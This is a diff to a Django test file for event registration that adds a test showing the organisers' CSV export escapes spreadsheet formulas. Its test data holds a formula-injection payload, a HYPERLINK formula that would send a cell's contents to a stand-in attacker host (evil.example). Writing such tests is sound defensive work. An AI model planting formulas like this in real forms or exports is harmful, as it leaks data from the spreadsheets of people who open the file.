@@ -1,7 +1,9 @@
 """Registration on an event's page, and the CSV export of registrations for organisers."""
 
 import contextlib
+import csv
 import datetime
+import io
 import threading
 
 import pytest
@@ -153,6 +155,29 @@ def test_csv_export_for_editors_of_the_calendar_only(client, event, calendar):
     assert "Иванова М. П.;m@example.org;МОУ СОШ № 5;учитель" in text[1]
     client.logout()
     assert client.get(url)["Location"].startswith("/admin/login/")
+
+
+def test_csv_export_never_runs_what_a_visitor_typed_as_a_formula(client, event, calendar):
+    # A visitor's form, as an attacker fills it: each cell would be a formula in Excel.
+    typed = data(
+        name='=HYPERLINK("https://evil.example/?"&A1,"Иванова")',
+        organisation="+7 (812) 123-45-67",
+        role="-5",
+    )
+    assert client.post(URL, typed).status_code == 302
+    client.force_login(_editor("organiser", calendar))
+
+    response = client.get(f"/admin/events/{event.pk}/registrations.csv")
+
+    text = response.content.decode("utf-8-sig")
+    header, row = csv.reader(io.StringIO(text), delimiter=";")
+    assert header[1] == "ФИО"
+    assert row[1:] == [
+        """'=HYPERLINK("https://evil.example/?"&A1,"Иванова")""",
+        "teacher@school.example",
+        "'+7 (812) 123-45-67",
+        "'-5",
+    ]
 
 
 @pytest.mark.django_db(transaction=True)
